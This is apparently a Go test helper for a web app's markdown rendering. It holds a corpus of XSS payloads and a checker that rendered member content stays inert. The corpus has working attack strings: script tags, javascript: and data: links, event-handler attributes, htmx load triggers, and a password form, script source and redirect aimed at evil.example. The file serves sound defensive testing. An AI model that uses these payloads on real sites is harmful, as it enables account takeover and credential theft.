// Package xsstest holds the library's XSS corpus and the check that a page renders it
// inert, for the views and handlers tests.
package xsstest

import (
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"
)

// Corpus is markdown a hostile member might submit. Every entry must come out of
// RenderMarkdown inert, and every page that shows member-written resources must show it
// inert.
var Corpus = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`[click](javascript:alert(1))`,
	`[click](JaVaScRiPt:alert(1))`,
	"[click](java\tscript:alert(1))",
	`[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[click](vbscript:msgbox(1))`,
	`<a href="javascript:alert(1)">x</a>`,
	`<svg onload=alert(1)><circle r="9" onclick="alert(1)"/></svg>`,
	`<img src=x onerror=alert(1)>`,
	`![x](javascript:alert(1))`,
	`![tracker](https://evil.example/pixel.png)`,
	`<div onclick="alert(1)" onmouseover="alert(1)">hover</div>`,
	`<p hx-get="/account" hx-trigger="load" hx-target="body">x</p>`,
	`<button hx-post="/logout" hx-trigger="load">x</button>`,
	`<form action="https://evil.example"><input name="password"></form>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<style>body{display:none}</style>`,
	`<p style="position:fixed;top:0">x</p>`,
	`<a href="https://example.org" style="x" onclick="y" hx-get="/z">ok</a>`,
	`<b onmouseover=alert(1)>unclosed <i>tags <script>alert(1)`,
	`<<script>script>alert(1)<</script>/script>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<object data="x.swf"></object><embed src="x.swf">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`,
	`[x](https://example.org "title\" onmouseover=\"alert(1)")`,
	"```html\n<script>alert(1)</script>\n```",
	`<details open ontoggle=alert(1)>x</details>`,
}

// AssertInert fails when html holds anything that could run or act: a script, style,
// iframe, form, object or embed element, an on* / hx-* / style attribute, or a URL with a
// scheme other than http, https or mailto.
func AssertInert(t testing.TB, where, html string) {
	t.Helper()
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(html))
	if err != nil {
		t.Fatalf("%s: parse: %v", where, err)
	}
	for _, tag := range []string{"script", "style", "iframe", "form", "object", "embed", "svg", "math", "meta", "base", "img"} {
		if doc.Find(tag).Length() > 0 && !inPageFrame(doc, tag) {
			t.Errorf("%s: a <%s> element survived:\n%s", where, tag, html)
		}
	}
	doc.Find("*").Each(func(_ int, s *goquery.Selection) {
		for _, a := range s.Nodes[0].Attr {
			k := strings.ToLower(a.Key)
			if strings.HasPrefix(k, "on") || (strings.HasPrefix(k, "hx-") && !pageFrameAttr(s, k)) || strings.HasPrefix(k, "data-hx") {
				t.Errorf("%s: attribute %s=%q survived on <%s>", where, a.Key, a.Val, s.Nodes[0].Data)
			}
			if k == "href" || k == "src" || k == "action" || k == "formaction" {
				v := strings.ToLower(strings.TrimSpace(a.Val))
				if i := strings.IndexByte(v, ':'); i >= 0 && !strings.ContainsAny(v[:i], "/?#") {
					if scheme := v[:i]; scheme != "http" && scheme != "https" && scheme != "mailto" {
						t.Errorf("%s: %s with scheme %q survived", where, a.Key, scheme)
					}
				}
			}
		}
	})
}

// inPageFrame and pageFrameAttr let AssertInert run over whole pages: Hearth's own frame
// has scripts (by URL), forms and hx-* attributes of its own. Member content is always
// inside an element with class "user-content", which must hold none of them.
func inPageFrame(doc *goquery.Document, tag string) bool {
	return doc.Find(".user-content "+tag).Length() == 0
}

func pageFrameAttr(s *goquery.Selection, _ string) bool {
	return s.Closest(".user-content").Length() == 0
}
